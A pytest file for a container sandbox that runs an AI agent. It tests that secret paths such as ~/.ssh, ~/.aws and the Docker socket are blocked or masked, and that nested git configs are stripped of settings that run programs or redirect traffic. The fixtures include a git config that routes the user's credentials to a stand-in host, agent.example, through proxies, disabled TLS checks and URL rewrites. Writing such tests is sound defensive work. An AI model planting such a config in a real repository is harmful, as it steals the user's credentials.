"""Blocked-path rules and the workspace/mount contribution (no engine needed)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from claude_docker.config import blocked_paths, build_model
from claude_docker.config.model import Config, FilesystemConfig, Mount, PersistenceConfig, WorkspaceConfig
from claude_docker.features import RunContext, filesystem, git
from claude_docker.runspec import BindMount, RunSpec
from claude_docker.session import Session


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A fake host home with a few secrets in it; Path.home() points at it."""
    home = tmp_path / "home" / "user"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("secret")
    (home / ".aws").mkdir()
    (home / "project").mkdir()
    (home / "project" / "src").mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CLAUDE_DOCKER_HOME", str(tmp_path / "cd-home"))  # always blocked; keep it aside
    return home


def contribute(cfg: Config, session: Session, spec: RunSpec, home: str) -> None:
    """The workspace feature, then git protection, as the run plan asks them."""
    ctx = RunContext.build(cfg, session, home=home)
    filesystem.contribute(ctx, spec)
    git.contribute(ctx, spec)


def make_config(
    workspace: Path,
    blocked: list[str],
    mounts: tuple[Mount, ...] = (),
    dotfiles: tuple[str, ...] = (),
    git_config: bool = False,
    protect_git: bool = True,
) -> Config:
    return Config(
        source_files=("/proj/claude-docker.yaml",),
        project_dir=str(workspace),
        workspace=WorkspaceConfig(path=str(workspace), protect_git=protect_git),
        filesystem=FilesystemConfig(blocked_paths=tuple(blocked), mounts=mounts),
        persistence=PersistenceConfig(dotfiles=dotfiles, git_config=git_config),
    )


def messages(cfg: Config, home: Path | str) -> list[str]:
    return [problem.format() for problem in blocked_paths.problems(cfg, home=str(home))]


def test_clean_config_has_no_problems(home):
    cfg = make_config(home / "project", [str(home / ".ssh"), "/etc"])
    assert messages(cfg, home) == []


def test_mount_that_is_a_blocked_path_is_refused(home):
    cfg = make_config(home / "project", [str(home / ".ssh")], mounts=(Mount(str(home / ".ssh"), "/keys"),))
    assert messages(cfg, home) == [
        f"/proj/claude-docker.yaml: filesystem.mounts[0].source: {home}/.ssh is the blocked path {home}/.ssh, "
        "which never enters the container; choose a path outside it "
        "(blocked paths cannot be unblocked by a profile or project file)"
    ]


def test_mount_inside_a_blocked_path_is_refused(home):
    cfg = make_config(home / "project", [str(home / ".ssh")], mounts=(Mount(str(home / ".ssh" / "id_ed25519"), "/k"),))
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert problem.key_path == "filesystem.mounts[0].source"
    assert f"lies inside the blocked path {home}/.ssh" in problem.message


def test_mount_containing_a_blocked_path_is_refused(home):
    cfg = make_config(home / "project", [str(home / ".aws")], mounts=(Mount(str(home), "/h"),))
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert f"{home} contains the blocked path {home}/.aws" in problem.message


def test_mount_through_a_symlink_is_refused(home, tmp_path):
    link = tmp_path / "innocent"
    link.symlink_to(home / ".ssh")
    cfg = make_config(home / "project", [str(home / ".ssh")], mounts=(Mount(str(link), "/data"),))
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert problem.message.startswith(f"{link} (a link to {home}/.ssh) is the blocked path {home}/.ssh,")


def test_one_problem_per_blocked_path_even_when_listed_twice_through_links(home, tmp_path):
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "docker.sock").touch()
    var_run = tmp_path / "var-run"
    var_run.symlink_to(run_dir)
    blocked = [str(var_run / "docker.sock"), str(run_dir / "docker.sock")]
    cfg = make_config(home / "project", blocked, mounts=(Mount(str(run_dir), "/r"),))
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert "contains the blocked path" in problem.message


def test_blocked_path_that_is_a_symlink_is_resolved(home, tmp_path):
    """~/.aws may be a link into a secrets dir; mounting the real dir is still refused."""
    vault = tmp_path / "vault"
    vault.mkdir()
    (home / ".aws").rmdir()
    (home / ".aws").symlink_to(vault)
    cfg = make_config(home / "project", [str(home / ".aws")], mounts=(Mount(str(vault), "/v"),))
    assert len(blocked_paths.problems(cfg, home=str(home))) == 1


def test_workspace_inside_a_blocked_path_is_refused(home):
    cfg = make_config(home / ".ssh", [str(home / ".ssh")])
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert problem.key_path == "workspace.path"
    assert "is the blocked path" in problem.message


def test_workspace_containing_a_blocked_path_is_allowed_and_masked(home):
    cfg = make_config(home, [str(home / ".ssh"), str(home / ".aws"), str(home / ".kube")])
    assert messages(cfg, home) == []
    spec = RunSpec()
    session = Session("p", "s")
    contribute(cfg, session, spec, home=str(home))
    assert spec.mounts[0] == BindMount(str(home), "/workspace", read_only=False)
    empty = session.session_dir / "empty-dir"
    masks = [m for m in spec.mounts if m.source == str(empty)]
    # ~/.kube does not exist: nothing to hide, and no mount point created on the host
    assert [m.target for m in masks] == ["/workspace/.aws", "/workspace/.ssh"]
    assert all(m.read_only for m in masks)
    assert not (home / ".kube").exists()
    # An empty directory bound over each, never a tmpfs: Podman copies what lies under a tmpfs
    # mount point into it (tests/engine/test_filesystem_persistence_docker.py runs on Podman too).
    assert list(empty.iterdir()) == [] and empty.stat().st_mode & 0o777 == 0o555


def test_masks_use_the_resolved_path_of_a_linked_secret(home, tmp_path):
    """~/.aws -> ~/dotfiles/aws: the real dir is masked; the link itself is not a mount target."""
    (home / ".aws").rmdir()
    (home / "dotfiles" / "aws").mkdir(parents=True)
    (home / ".aws").symlink_to(home / "dotfiles" / "aws")
    (tmp_path / "elsewhere").mkdir()
    (home / ".kube").symlink_to(tmp_path / "elsewhere")  # outside the workspace: nothing in it to hide
    cfg = make_config(home, [str(home / ".aws"), str(home / ".kube")])
    assert filesystem.workspace_masks(cfg, home=str(home)) == [("/workspace/dotfiles/aws", True)]


def test_blocked_file_inside_workspace_is_masked_with_an_empty_file(home, cd_home):
    (home / ".netrc").write_text("machine x password y")
    cfg = make_config(home, [str(home / ".netrc")])
    spec = RunSpec()
    session = Session("p", "s")
    contribute(cfg, session, spec, home=str(home))
    empty = session.session_dir / "empty"
    assert BindMount(str(empty), "/workspace/.netrc", read_only=True) in spec.mounts
    assert empty.read_bytes() == b"" and empty.stat().st_mode & 0o777 == 0o444


def test_root_home_workspace_under_root_is_allowed(tmp_path):
    """Home /root with /root blocked: a workspace under the home is fine, secrets still blocked."""
    root_home = tmp_path / "root"
    (root_home / "proj").mkdir(parents=True)
    (root_home / ".ssh").mkdir()
    blocked = [str(root_home), str(root_home / ".ssh")]
    cfg = make_config(root_home / "proj", blocked)
    assert blocked_paths.problems(cfg, home=str(root_home)) == []
    # the home's secrets are still refused, by their own entry
    cfg = make_config(root_home / "proj", blocked, mounts=(Mount(str(root_home / ".ssh"), "/k"),))
    [problem] = blocked_paths.problems(cfg, home=str(root_home))
    assert f"blocked path {root_home}/.ssh" in problem.message
    # and the home's ancestor entry still blocks everything outside the home
    other = tmp_path / "other"
    other.mkdir()
    cfg = make_config(root_home / "proj", [str(tmp_path)], mounts=(Mount(str(other), "/o"),))
    assert len(blocked_paths.problems(cfg, home=str(root_home))) == 1


def test_root_home_is_not_blocked_for_another_user(tmp_path):
    root_home = tmp_path / "root"
    (root_home / "proj").mkdir(parents=True)
    cfg = make_config(root_home / "proj", [str(root_home)])
    assert len(blocked_paths.problems(cfg, home=str(tmp_path / "home" / "user"))) == 1


def test_docker_socket_is_blocked_without_being_listed(home):
    cfg = make_config(home / "project", [], mounts=(Mount("/var/run/docker.sock", "/var/run/docker.sock"),))
    problems = blocked_paths.problems(cfg, home=str(home))
    assert problems and all("docker.sock" in p.message for p in problems)


def test_claude_docker_state_is_blocked_wherever_it_lives(home, tmp_path, monkeypatch):
    """Every project's login lives there: a workspace around it hides it, a mount of it is refused."""
    state = tmp_path / "data" / "cd-state"
    state.mkdir(parents=True)
    monkeypatch.setenv("CLAUDE_DOCKER_HOME", str(state))
    cfg = make_config(tmp_path / "data", [])
    assert blocked_paths.problems(cfg, home=str(home)) == []
    assert filesystem.workspace_masks(cfg, home=str(home)) == [("/workspace/cd-state", True)]
    cfg = make_config(home / "project", [], mounts=(Mount(str(state), "/s"),))
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert f"blocked path {state}" in problem.message


def test_dotfile_in_blocked_path_is_refused(home):
    cfg = make_config(home / "project", [str(home / ".ssh")], dotfiles=(str(home / ".ssh" / "id_ed25519"),))
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert problem.key_path == "persistence.dotfiles[0]"


def test_gitconfig_in_blocked_path_is_refused(home):
    (home / ".gitconfig").write_text("[user]\n name = x\n")
    cfg = make_config(home / "project", [str(home / ".gitconfig")], git_config=True)
    [problem] = blocked_paths.problems(cfg, home=str(home))
    assert problem.key_path == "persistence.git_config"


def test_missing_mount_source_and_reserved_target(home):
    cfg = make_config(home / "project", [], mounts=(Mount(str(home / "nope"), "/opt/claude-docker/bin"),))
    keys = sorted(p.key_path for p in blocked_paths.problems(cfg, home=str(home)))
    assert keys == ["filesystem.mounts[0].source"]  # the target is the config stage's to judge
    reported: list = []
    mounts = [{"source": str(home / "nope"), "target": "/opt/claude-docker/bin"}, {"source": "/x", "target": "/run"}]
    build_model.semantic_problems({"filesystem": {"mounts": mounts}}, lambda path, message: reported.append((path, message)))
    assert reported == [
        (("filesystem", "mounts", 0, "target"), "target /opt/claude-docker/bin overlaps /opt/claude-docker, which claude-docker manages; pick another container path"),
        (("filesystem", "mounts", 1, "target"), "target /run overlaps /run/claude-docker, which claude-docker manages; pick another container path"),
    ]


def test_locator_supplies_file_and_line(home):
    cfg = make_config(home / ".ssh", [str(home / ".ssh")])
    seen = []

    def locate(key):
        seen.append(key)
        return ("/x/profile.yaml", 7)

    [problem] = blocked_paths.problems(cfg, locate=locate, home=str(home))
    assert seen == [("workspace", "path")]
    assert problem.format().startswith("/x/profile.yaml:7: workspace.path: ")


def test_locator_without_an_answer_falls_back_to_the_users_file(home):
    cfg = make_config(home / ".ssh", [str(home / ".ssh")])
    [problem] = blocked_paths.problems(cfg, locate=lambda key: None, home=str(home))
    assert (problem.file, problem.line) == ("/proj/claude-docker.yaml", None)


def test_protect_git_binds_hooks_and_config_read_only(home):
    project = home / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n\thooksPath = .husky\n")
    (project / ".husky").mkdir()
    cfg = make_config(project, [])
    spec = RunSpec()
    contribute(cfg, Session("p", "s"), spec, home=str(home))
    assert spec.mounts[1:] == [
        BindMount(str(project / ".git"), "/workspace/.git", read_only=False),
        BindMount(str(project / ".git" / "hooks"), "/workspace/.git/hooks", read_only=True),
        BindMount(str(project / ".git" / "info"), "/workspace/.git/info", read_only=True),
        BindMount(str(project / ".git" / "config"), "/workspace/.git/config", read_only=True),
        BindMount(str(project / ".husky"), "/workspace/.husky", read_only=True),
    ]


def test_protect_git_creates_an_empty_alternates_file_to_keep_it_read_only(home):
    project = home / "project"
    (project / ".git" / "objects" / "info").mkdir(parents=True)
    spec = RunSpec()
    contribute(make_config(project, []), Session("p", "s"), spec, home=str(home))
    alternates = project / ".git" / "objects" / "info" / "alternates"
    assert alternates.read_text() == ""
    assert BindMount(str(alternates), "/workspace/.git/objects/info/alternates", True) in spec.mounts


def test_protect_git_follows_a_hooks_link_inside_the_workspace(home):
    project = home / "project"
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("")
    (project / "tools" / "hooks").mkdir(parents=True)
    (project / ".git" / "hooks").symlink_to("../tools/hooks")
    spec = RunSpec()
    contribute(make_config(project, []), Session("p", "s"), spec, home=str(home))
    assert BindMount(str(project / "tools" / "hooks"), "/workspace/tools/hooks", True) in spec.mounts
    assert all(m.target != "/workspace/.git/hooks" for m in spec.mounts)


def test_protect_git_creates_missing_hooks_dir(home):
    project = home / "project"
    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("")
    spec = RunSpec()
    contribute(make_config(project, []), Session("p", "s"), spec, home=str(home))
    assert (project / ".git" / "hooks").is_dir()
    assert BindMount(str(project / ".git" / "hooks"), "/workspace/.git/hooks", True) in spec.mounts


def test_protect_git_off_binds_only_the_workspace(home):
    project = home / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    spec = RunSpec()
    contribute(make_config(project, [], protect_git=False), Session("p", "s"), spec, home=str(home))
    assert spec.mounts == [BindMount(str(project), "/workspace", read_only=False)]


def test_user_mounts_are_bound_resolved(home, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    link = tmp_path / "data-link"
    link.symlink_to(data)
    cfg = make_config(home / "project", [], mounts=(Mount(str(link), "/data", read_only=False),))
    spec = RunSpec()
    contribute(cfg, Session("p", "s"), spec, home=str(home))
    assert spec.mounts[-1] == BindMount(os.path.realpath(data), "/data", read_only=False)


# --- repositories nested in the workspace (the host's own git edits their config) ------------------


def nested_repo(path: Path, config: str = "") -> Path:
    """A git dir as `git init` leaves it, plus `config`."""
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    git_dir = path / ".git"
    if config:
        with (git_dir / "config").open("a") as handle:
            handle.write(config)
    return git_dir


def test_a_gitfile_pointing_outside_the_workspace_is_left_alone(home, tmp_path):
    """The git dir it names is not the agent's to write; editing it would change a host repository."""
    outside = nested_repo(tmp_path / "outside", "[core]\n\tfsmonitor = keep-me\n")
    project = home / "project"
    (project / "sub").mkdir(parents=True)
    (project / "sub" / ".git").write_text(f"gitdir: {outside}\n")
    assert git.disarm_repositories(str(project)) == []
    assert "keep-me" in (outside / "config").read_text()


def test_a_linked_config_is_renamed_never_written_through(home, tmp_path):
    target = tmp_path / "host-gitconfig"
    target.write_text("[core]\n\tfsmonitor = keep-me\n")
    project = home / "project"
    git_dir = nested_repo(project / "sub")
    (git_dir / "config").unlink()
    (git_dir / "config").symlink_to(target)
    [warning] = git.disarm_repositories(str(project))
    assert warning.startswith(f"disarmed {git_dir}/config: a link, renamed to config.disabled-by-claude-docker")
    assert target.read_text() == "[core]\n\tfsmonitor = keep-me\n"


def test_a_nested_repository_keeps_its_ordinary_settings(home):
    project = home / "project"
    git_dir = nested_repo(project / "deep" / "er" / "sub", '[remote "origin"]\n\turl = https://example.com/x.git\n'
                          '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n[alias]\n\tst = !touch x\n')
    (git_dir / "objects" / "info" / "alternates").write_text("/elsewhere/objects\n")
    (git_dir / "commondir").write_text("/nowhere\n")
    warnings = git.disarm_repositories(str(project))
    assert [w.split(": ", 1)[1].split(" (")[0] for w in warnings] == [
        "removed filter.lfs.clean", "removed alias.st",
        "renamed to commondir.disabled-by-claude-docker", "renamed to alternates.disabled-by-claude-docker",
    ]
    result = subprocess.run(["git", "config", "-f", str(git_dir / "config"), "remote.origin.url"], capture_output=True, text=True)
    assert result.stdout.strip() == "https://example.com/x.git"
    assert git.disarm_repositories(str(project)) == []  # nothing left to say the second time


def test_submodule_git_dirs_of_the_top_level_repository_are_disarmed(home):
    project = home / "project"
    nested_repo(project)
    module = nested_repo(project / "modsrc", "[core]\n\tfsmonitor = x\n")
    (project / ".git" / "modules").mkdir()
    module.rename(project / ".git" / "modules" / "sub")
    [warning] = git.disarm_repositories(str(project))
    assert warning.startswith(f"disarmed {project}/.git/modules/sub/config: removed core.fsmonitor")


def test_directories_that_are_git_dirs_themselves_are_disarmed(home):
    """git run in a directory holding HEAD, objects and refs (or a commondir) takes it for a
    repository before looking for the workspace's .git above it; its core.worktree gives it a
    work tree, and its fsmonitor and hooks run there."""
    project = home / "project"
    nested_repo(project)
    src = project / "src"
    subprocess.run(["git", "init", "-q", "--bare", str(src)], check=True)
    with (src / "config").open("a") as handle:
        handle.write("[core]\n\tworktree = ..\n\tfsmonitor = x\n")
    (src / "hooks" / "post-index-change").write_text("#!/bin/sh\n")
    linked = project / "lib"
    linked.mkdir()
    (linked / "HEAD").write_text("ref: refs/heads/main\n")
    (linked / "commondir").write_text("../src\n")
    (linked / "config.worktree").write_text("[core]\n\tsshCommand = x\n")
    ordinary = project / "docs"
    ordinary.mkdir()
    (ordinary / "HEAD").write_text("not a repository\n")
    (ordinary / "hooks").mkdir()
    (ordinary / "hooks" / "useThing.js").write_text("")
    warnings = git.disarm_repositories(str(project))
    assert [w.split(" (")[0] for w in warnings] == [
        f"disarmed {src}/config: removed core.worktree",
        f"disarmed {src}/config: removed core.fsmonitor",
        f"disarmed {src}/hooks: renamed to hooks.disabled-by-claude-docker",
        f"disarmed {linked}/config.worktree: removed core.sshcommand",
    ]
    assert (ordinary / "hooks" / "useThing.js").exists()  # no objects or refs: not a git dir


def test_signing_key_and_lfs_commands_are_removed(home):
    project = home / "project"
    git_dir = nested_repo(project / "sub", '[commit]\n\tgpgSign = true\n[gpg]\n\tformat = ssh\n'
                          '[gpg "ssh"]\n\tdefaultKeyCommand = touch x\n[lfs "customtransfer.t"]\n\tpath = x\n'
                          '[lfs "extension.e"]\n\tclean = x\n\tsmudge = x\n[sendemail]\n\tsendmailCmd = x\n')
    warnings = git.disarm_repositories(str(project))
    assert [w.split(": ", 1)[1].split(" (")[0] for w in warnings] == [
        "removed gpg.ssh.defaultkeycommand", "removed lfs.customtransfer.t.path", "removed lfs.extension.e.clean",
        "removed lfs.extension.e.smudge", "removed sendemail.sendmailcmd",
    ]
    assert "gpgsign = true" in (git_dir / "config").read_text().lower()


def test_the_walk_is_bounded_and_says_so(home, monkeypatch):
    project = home / "project"
    for index in range(5):
        (project / f"d{index}").mkdir(parents=True)
    monkeypatch.setattr(git, "NESTED_WALK_LIMIT", 3)
    [warning] = git.disarm_repositories(str(project))
    assert warning.startswith(f"stopped looking for nested repositories in {project} after 3 directories")


def test_without_git_on_the_host_a_config_that_runs_something_is_set_aside(home, monkeypatch):
    project = home / "project"
    git_dir = nested_repo(project / "sub", "[core]\n\tfsmonitor = x\n")
    monkeypatch.setenv("PATH", str(home))  # no git
    [warning] = git.disarm_repositories(str(project))
    assert warning.startswith(f"disarmed {git_dir}/config: set aside whole as config.disabled-by-claude-docker")
    assert not (git_dir / "config").exists()


def test_a_repository_that_cannot_be_disarmed_is_named_not_a_traceback(home, monkeypatch):
    """E.g. `claude.uid` makes the agent's files another user's, which this user cannot rename."""
    project = home / "project"
    git_dir = nested_repo(project / "sub")
    (git_dir / "hooks" / "pre-commit").write_text("#!/bin/sh\n")

    def refuse(path: str) -> str:
        raise PermissionError(13, "Permission denied", path)

    monkeypatch.setattr(git, "_rename_aside", refuse)
    assert git.disarm_repositories(str(project)) == [
        f"could not disarm the repository at {git_dir} (Permission denied): review it before running git there"
    ]


def test_a_nested_repository_cannot_send_the_users_credentials_elsewhere(home):
    """Nothing of these runs a program, but each sends what git carries (the user's credentials,
    handed out by their credential helper for the real host) through or to a place the agent
    chose, at the user's next fetch or push there: a proxy with certificate checks off, another
    CA, a rewritten URL, an extra header."""
    project = home / "project"
    git_dir = nested_repo(project / "vendor" / "lib", (
        '[http]\n\tproxy = http://agent.example:3128\n\tsslVerify = false\n\tsslCAInfo = /tmp/agent-ca.pem\n'
        '\textraHeader = X-Debug: 1\n\tcookieFile = ~/.netrc\n'
        '[http "https://github.com/"]\n\tproxy = http://agent.example:3128\n'
        '[remote "origin"]\n\turl = https://github.com/user/lib.git\n\tproxy = http://agent.example:3128\n'
        '\tpushurl = https://agent.example/lib.git\n'
        '[url "https://agent.example/"]\n\tinsteadOf = https://github.com/\n\tpushInsteadOf = https://github.com/\n'
        '[user]\n\tname = Kept Name\n'
    ))
    git.disarm_repositories(str(project))

    def value(key: str) -> str:
        return subprocess.run(["git", "config", "-f", str(git_dir / "config"), "--get-all", key],
                              capture_output=True, text=True).stdout.strip()

    for key in ("http.proxy", "http.sslverify", "http.sslcainfo", "http.extraheader", "http.cookiefile",
                "http.https://github.com/.proxy", "remote.origin.proxy", "remote.origin.pushurl",
                "url.https://agent.example/.insteadof", "url.https://agent.example/.pushinsteadof"):
        assert value(key) == "", key
    assert value("user.name") == "Kept Name" and value("remote.origin.url") == "https://github.com/user/lib.git"
